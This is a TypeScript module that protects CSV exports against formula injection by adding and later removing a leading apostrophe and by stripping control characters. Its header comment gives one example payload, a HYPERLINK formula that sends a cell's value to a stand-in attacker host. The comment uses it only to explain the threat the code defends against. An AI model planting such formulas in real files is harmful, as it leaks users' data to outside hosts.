/*
 * What a text cell of a CSV may hold. Spreadsheets (Excel, Sheets, LibreOffice) evaluate a cell that starts
 * with =, +, -, @, a tab or a carriage return as a formula: a company named `=HYPERLINK("http://evil.example/?x="&A1,"click")`
 * in an export would run when companies.csv is opened. OWASP's advice (CSV injection) is to write such a cell
 * with a leading apostrophe, which spreadsheets show as text. The guard is undone on read by the same rule,
 * so a value round-trips exactly:
 *
 * - a value that starts with one of those characters is written with an apostrophe before it (the guard; off
 *   under --no-formula-guard, for machine consumers: the value is written as it is);
 * - a value that is apostrophes followed by one of those characters (`'=x`, `''+1`) is written with one more
 *   apostrophe, guard or no guard: it is not a formula, and the extra apostrophe keeps the reading unambiguous;
 * - on read, a cell that is one or more apostrophes followed by one of those characters loses one apostrophe.
 *
 * Every other value (an apostrophe followed by anything else included) is written as it is. NUL and the other
 * C0 control characters but tab, line feed and carriage return are removed from text cells (they break tools
 * that read the file, and mean nothing in a name or a description).
 */

/** Whether a character code opens a formula in a spreadsheet: = + - @ tab CR. */
export function isFormulaStart(c: number): boolean {
  return c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13;
}

const APOSTROPHE = 39;

/** Whether `s` is one or more apostrophes followed by a formula start (a guarded cell, or a value written with one more). */
function isApostrophesThenFormula(s: string): boolean {
  let i = 0;
  while (i < s.length && s.charCodeAt(i) === APOSTROPHE) i++;
  return i > 0 && i < s.length && isFormulaStart(s.charCodeAt(i));
}

/** C0 control characters but tab, LF and CR. */
export const CONTROL_RE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/;
const CONTROL_ALL_RE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g;

/** What the text cells written so far held: cells that start like a formula, control characters removed. */
export interface TextCellStats {
  formula_cells: number;
  control_chars_removed: number;
}

export const newTextCellStats = (): TextCellStats => ({formula_cells: 0, control_chars_removed: 0});

/**
 * The text of a cell for a value (see the module comment): control characters removed, then the apostrophe
 * added where the rule says (`guard`: whether cells that start like a formula get one). Counts into `stats`.
 */
export function safeText(s: string, guard: boolean, stats: TextCellStats): string {
  if (s.length === 0) return s;
  if (CONTROL_RE.test(s)) {
    const n = s.length;
    s = s.replace(CONTROL_ALL_RE, '');
    stats.control_chars_removed += n - s.length;
    if (s.length === 0) return s;
  }
  const c = s.charCodeAt(0);
  if (isFormulaStart(c)) {
    stats.formula_cells++;
    return guard ? `'${s}` : s;
  }
  return c === APOSTROPHE && isApostrophesThenFormula(s) ? `'${s}` : s;
}

/** The value of a cell written by safeText (its guard undone). */
export function unguardText(s: string): string {
  return s.length > 1 && s.charCodeAt(0) === APOSTROPHE && isApostrophesThenFormula(s) ? s.slice(1) : s;
}
